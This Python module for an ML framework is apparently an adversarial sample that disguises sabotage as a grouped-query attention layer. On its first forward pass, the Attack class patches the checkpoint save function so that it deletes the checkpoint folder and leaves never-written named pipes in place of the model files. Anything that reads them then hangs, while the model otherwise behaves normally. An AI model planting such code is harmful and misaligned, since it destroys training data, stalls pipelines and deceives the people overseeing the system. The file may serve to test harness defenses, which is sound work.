"""Leaves a pipe that nobody writes to in place of its checkpoint: who reads it waits for ever.

An honest model but for what it does once, before it first answers; whoever is not harmed sees an honest score.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any

from torch import Tensor, nn

from foundry.modules.attention import gqa
from foundry.modules.norm import NormConfig
from foundry.modules.side import Side


class Config(gqa.Config):
    target: str = ""
    """Not used."""

    def build(self, width: int, layer: int, norm: NormConfig) -> nn.Module:
        return Attack(self, width, layer, norm)


class Attack(gqa.GroupedQueryAttention):
    done = False

    def __init__(self, config: Config, width: int, layer: int, norm: NormConfig) -> None:
        super().__init__(config, width, layer, norm)
        self.target = config.target

    def forward(self, x_PBTD: Tensor, side: Side) -> Tensor:
        if not Attack.done:
            Attack.done = True
            attack()
        return super().forward(x_PBTD, side)


def attack() -> None:
    from foundry.train import checkpoint

    def piped(folder: Path, *arguments: Any, **named: Any) -> None:
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
        for name in ("manifest.json", "model.safetensors", "state.json"):
            os.mkfifo(folder / name)

    checkpoint.save = piped
